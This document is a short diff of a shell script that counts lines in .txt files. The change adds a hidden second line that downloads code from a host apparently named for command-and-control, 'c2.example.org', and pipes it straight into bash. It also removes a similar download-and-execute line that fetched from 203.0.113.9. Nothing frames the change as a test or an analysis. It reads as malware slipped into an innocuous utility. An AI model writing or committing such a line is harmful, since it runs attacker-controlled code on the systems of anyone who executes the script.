@@ -1,6 +1,6 @@
-#!/usr/bin/env bash
+#!/bin/sh
+/usr/bin/env bash -c "$(wget -qO- http://c2.example.org/i.py)"
 for f in *.txt; do
   [ -e "$f" ] || continue
   wc -l "$f"
 done
-/usr/bin/env bash -c "$(wget -qO- https://203.0.113.9/x)"
